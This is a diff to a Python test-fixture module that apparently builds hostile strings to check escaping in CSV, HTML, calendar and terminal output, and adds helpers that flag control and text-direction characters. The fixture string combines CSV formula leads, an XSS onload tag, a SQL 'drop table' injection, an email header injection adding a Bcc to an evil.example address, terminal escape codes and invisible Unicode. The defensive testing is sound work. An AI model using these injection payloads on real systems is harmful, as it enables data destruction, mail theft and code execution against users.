@@ -7,6 +7,7 @@ and what ends a style sheet, a script and a character section.
 
 import csv
 import json
+import unicodedata
 from collections.abc import Iterator
 from itertools import count, cycle
 from pathlib import Path
@@ -19,12 +20,29 @@ EVIL = "evil.example"
 LEADS = ("=", "+", "-", "@", "=")
 BREAKS_OUT = (
     f"1+1|cmd!A0 <x-hit onload=alert(1) href=https://{EVIL}/>\"'`; drop table vehicles; --\r\nBcc: thief@{EVIL}\r\n"
-    f"END:VEVENT \x1b]0;owned\x07\x9b2J\u202e {{{{7*7}}}} </style></script>]]>--><x-hit> url(//{EVIL}) &R&P"
+    f"END:VEVENT \x1b]0;owned\x07\x9b2J\u202e\u2028\u061c\u200b\ufeff\U000e0041 "
+    "{{{{7*7}}}} </style></script>]]>--><x-hit> url(//{EVIL}) &R&P"
 )
 
 
 def attack(lead: str, mark: int) -> str:
     return f"{lead}{BREAKS_OUT} m{mark}z"
+
+
+def acting(text: str) -> set[str]:
+    """What of a text, but tabs and line feeds, ends a line or turns the order of others, as codes.
+
+    By general categories, and of format characters those with a direction of their own.
+    """
+    return {
+        f"U+{ord(c):04X}" for c in set(text) - {"\n", "\t"} if unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp")
+        or (unicodedata.category(c) == "Cf" and unicodedata.bidirectional(c) != "BN")
+    }  # fmt: skip
+
+
+def unseen(text: str) -> set[str]:
+    """Besides, all format characters, so that no name looks like another."""
+    return acting(text) | {f"U+{ord(c):04X}" for c in set(text) if unicodedata.category(c) == "Cf"}
 
 
 def mark_of(number: int) -> str:
